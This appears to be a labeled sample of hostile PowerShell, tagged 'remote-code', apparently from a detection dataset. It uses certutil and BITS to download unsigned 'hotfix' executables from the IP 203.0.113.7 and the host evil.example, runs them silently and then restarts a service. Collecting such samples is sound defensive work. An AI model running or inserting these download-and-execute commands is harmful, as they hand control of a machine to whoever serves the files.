# description: Downloads an unsigned "hotfix" executable with certutil and BITS from an external IP and runs it.
# family: remote-code
$dst = 'C:\Windows\Temp\fix.exe'
certutil.exe -urlcache -split -f http://203.0.113.7/fix.exe $dst
& $dst /quiet
Start-BitsTransfer -Source 'http://evil.example/patch.exe' -Destination 'C:\Windows\Temp\patch.exe'
Start-Process -FilePath 'C:\Windows\Temp\patch.exe' -ArgumentList '/silent' -Wait
Restart-Service -Name OrderService
